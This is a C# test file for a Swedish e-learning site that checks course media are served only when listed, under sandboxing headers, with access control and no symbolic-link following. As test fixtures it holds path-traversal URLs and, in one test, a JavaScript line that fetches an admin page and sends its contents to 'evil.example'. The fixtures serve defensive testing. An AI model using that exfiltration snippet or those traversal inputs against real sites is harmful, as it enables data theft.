using System.Net;
using Nanolearning.Web.Features.Courses;
using Nanolearning.Web.Features.Demo;

namespace Nanolearning.Web.Tests;

/// <summary>
/// A course's media/ folder as the app serves it: only the files the compiler listed, only images, audio, video and
/// PDF, sandboxed, never through a symbolic link, and only to people who may open the course. Each test works in a
/// course folder of its own, since a test that breaks a course leaves its last good version live.
/// </summary>
public sealed class MediaTests(AppFixture app) : IClassFixture<AppFixture>
{
    private const string Intro = DemoSeeder.IntroductionCourse;

    private static readonly byte[] Png = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 1, 2, 3];

    private const string Svg = """<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="10"/></svg>""";

    [Fact]
    public async Task A_course_serves_the_media_files_it_lists_and_nothing_else()
    {
        var before = app.Catalog.FindLive(Intro)!.Version;
        var media = Path.Combine(app.CoursesFolder, Intro, "media");
        Directory.CreateDirectory(media);
        await File.WriteAllBytesAsync(Path.Combine(media, "bild.png"), Png);
        await app.WaitForNewVersion(Intro, before);

        var visitor = app.NewVisitor();
        await visitor.LogInAs("medarbetare");
        using var image = await visitor.Client.GetAsync($"/kurs/{Intro}/media/bild.png");
        Assert.Equal(HttpStatusCode.OK, image.StatusCode);
        Assert.Equal("image/png", image.Content.Headers.ContentType?.MediaType);
        Assert.Equal(Png, await image.Content.ReadAsByteArrayAsync());

        foreach (var url in new[] { $"/kurs/{Intro}/media/finns-inte.png", $"/kurs/{Intro}/media/..%2Fcourse.yml", $"/kurs/{Intro}/media/sub%2F..%2F..%2Fcourse.yml", "/kurs/finns-inte/media/bild.png" })
        {
            using var refused = await visitor.Client.GetAsync(url);
            Assert.True(refused.StatusCode == HttpStatusCode.NotFound, $"{url}: {(int)refused.StatusCode}");
        }

        Assert.Null(app.Catalog.FindMediaFile(Intro, "../course.yml"));
        Assert.Null(app.Catalog.FindMediaFile(Intro, "../../" + Intro + "/course.yml"));

        using var anonymous = await app.NewVisitor().Client.GetAsync($"/kurs/{Intro}/media/bild.png");
        Assert.Equal(HttpStatusCode.Redirect, anonymous.StatusCode);
    }

    [Fact]
    public async Task Every_media_file_is_served_sandboxed_with_its_own_type_and_a_pdf_inline_without_the_sandbox_its_viewer_refuses()
    {
        const string course = DemoSeeder.IntroductionCourse;
        var media = Path.Combine(app.CoursesFolder, course, "media", "rubriker");
        Directory.CreateDirectory(media);
        await File.WriteAllTextAsync(Path.Combine(media, "karta.svg"), Svg);
        await File.WriteAllBytesAsync(Path.Combine(media, "broschyr om stöd.pdf"), "%PDF-1.4\n%%EOF\n"u8.ToArray());
        await app.Catalog.ReloadAsync();
        var visitor = app.NewVisitor();
        await visitor.LogInAs("medarbetare");

        using var svg = await visitor.Client.GetAsync($"/kurs/{course}/media/rubriker/karta.svg");
        Assert.Equal(HttpStatusCode.OK, svg.StatusCode);
        Assert.Equal("image/svg+xml", svg.Content.Headers.ContentType?.MediaType);
        Assert.Equal("default-src 'none'; style-src 'unsafe-inline'; sandbox", Header(svg, "Content-Security-Policy"));
        Assert.Equal("nosniff", Header(svg, "X-Content-Type-Options"));
        Assert.Equal("same-origin", Header(svg, "Cross-Origin-Resource-Policy"));
        Assert.Equal("inline", svg.Content.Headers.ContentDisposition?.DispositionType);

        using var pdf = await visitor.Client.GetAsync($"/kurs/{course}/media/rubriker/broschyr%20om%20st%C3%B6d.pdf");
        Assert.Equal(HttpStatusCode.OK, pdf.StatusCode);
        Assert.Equal("application/pdf", pdf.Content.Headers.ContentType?.MediaType);
        Assert.Equal(CourseMedia.PdfPolicy, Header(pdf, "Content-Security-Policy"));
        Assert.Contains("script-src 'none'", CourseMedia.PdfPolicy);
        Assert.Equal("nosniff", Header(pdf, "X-Content-Type-Options"));
        Assert.Equal("inline", pdf.Content.Headers.ContentDisposition?.DispositionType);
        Assert.Equal("broschyr om stöd.pdf", pdf.Content.Headers.ContentDisposition?.FileNameStar);
    }

    [Fact]
    public async Task An_html_or_javascript_file_in_media_stops_the_course_and_is_never_served()
    {
        var course = await NewCourse("media-skript");
        var live = app.Catalog.FindLive(course)!.Version;
        var media = Path.Combine(app.CoursesFolder, course, "media");
        Directory.CreateDirectory(media);
        await File.WriteAllTextAsync(Path.Combine(media, "x.js"), "fetch('/admin/import').then(r => r.text()).then(t => new Image().src = 'https://evil.example/?' + t);");
        await File.WriteAllTextAsync(Path.Combine(media, "x.html"), """<script src="x.js"></script>""");
        await app.Catalog.ReloadAsync();

        Assert.Equal(live, app.Catalog.FindLive(course)!.Version);
        var problem = Assert.Single(app.Catalog.Problems, p => p.Folder == course);
        Assert.True(problem.HasErrors);
        Assert.Contains(problem.Diagnostics, d => d.File == Path.Combine(course, "media", "x.html") && d.Line == 1 && d.Message.Contains("får inte ligga i media/"));

        var visitor = app.NewVisitor();
        await visitor.LogInAs("medarbetare");
        await visitor.Open($"/kurs/{course}");
        foreach (var file in new[] { "x.html", "x.js" })
        {
            using var response = await visitor.Client.GetAsync($"/kurs/{course}/media/{file}");
            Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
        }
    }

    [Fact]
    public async Task Media_of_a_course_the_learner_may_not_open_are_refused_as_the_course_page_is()
    {
        const string course = DemoSeeder.PoliticianCourse;
        var media = Path.Combine(app.CoursesFolder, course, "media");
        Directory.CreateDirectory(media);
        await File.WriteAllBytesAsync(Path.Combine(media, "namnden.png"), Png);
        await app.Catalog.ReloadAsync();
        var url = $"/kurs/{course}/media/namnden.png";

        var politician = app.NewVisitor();
        await politician.LogInAs("politiker");
        using var allowed = await politician.Client.GetAsync(url);
        Assert.Equal(HttpStatusCode.OK, allowed.StatusCode);

        foreach (var persona in new[] { "medarbetare", "admin" })
        {
            var visitor = app.NewVisitor();
            await visitor.LogInAs(persona);
            using var page = await visitor.Client.GetAsync($"/kurs/{course}");
            using var refused = await visitor.Client.GetAsync(url);
            Assert.Equal(HttpStatusCode.Forbidden, page.StatusCode);
            Assert.True(refused.StatusCode == page.StatusCode, $"{persona}: {(int)refused.StatusCode}");
        }
    }

    [Fact]
    public async Task A_listed_file_turned_into_a_symbolic_link_after_the_compile_is_not_followed()
    {
        var course = await NewCourse("media-lank");
        var media = Path.Combine(app.CoursesFolder, course, "media");
        var file = Path.Combine(media, "bild.png");
        Directory.CreateDirectory(media);
        await File.WriteAllBytesAsync(file, Png);
        await app.Catalog.ReloadAsync();
        Assert.Contains(app.Catalog.FindLive(course)!.Media, m => m.Path == "media/bild.png");

        // The secret lies outside the course folder: a link is all it takes to publish it, unless nothing follows it.
        var secret = Path.Combine(app.Root, "hemlig.png");
        await File.WriteAllTextAsync(secret, "lösenord: hunter2");
        File.Delete(file);
        File.CreateSymbolicLink(file, secret);
        var visitor = app.NewVisitor();
        await visitor.LogInAs("medarbetare");

        using var beforeRecompile = await visitor.Client.GetAsync($"/kurs/{course}/media/bild.png");
        await app.Catalog.ReloadAsync();
        using var afterRecompile = await visitor.Client.GetAsync($"/kurs/{course}/media/bild.png");

        Assert.Equal(HttpStatusCode.NotFound, beforeRecompile.StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, afterRecompile.StatusCode);
        Assert.DoesNotContain("hunter2", await afterRecompile.Content.ReadAsStringAsync());
        Assert.Contains(app.Catalog.Problems, p => p.Folder == course && p.Diagnostics.Any(d => d.Message.Contains("symbolisk länk")));
    }

    /// <summary>A copy of the introduction course's lessons under a new id, published, for one test to break as it likes.</summary>
    private async Task<string> NewCourse(string id)
    {
        var from = Path.Combine(app.CoursesFolder, Intro);
        var folder = Path.Combine(app.CoursesFolder, id);
        Directory.CreateDirectory(folder);
        foreach (var lesson in Directory.EnumerateFiles(from, "*.md"))
        {
            File.Copy(lesson, Path.Combine(folder, Path.GetFileName(lesson)));
        }

        var manifest = await File.ReadAllTextAsync(Path.Combine(from, "course.yml"));
        await File.WriteAllTextAsync(Path.Combine(folder, "course.yml"), manifest.Replace("id: " + Intro, "id: " + id));
        await app.Catalog.ReloadAsync();
        Assert.NotNull(app.Catalog.FindLive(id));
        return id;
    }

    private static string? Header(HttpResponseMessage response, string name) =>
        response.Headers.TryGetValues(name, out var values) || response.Content.Headers.TryGetValues(name, out values)
            ? string.Join(", ", values)
            : null;
}
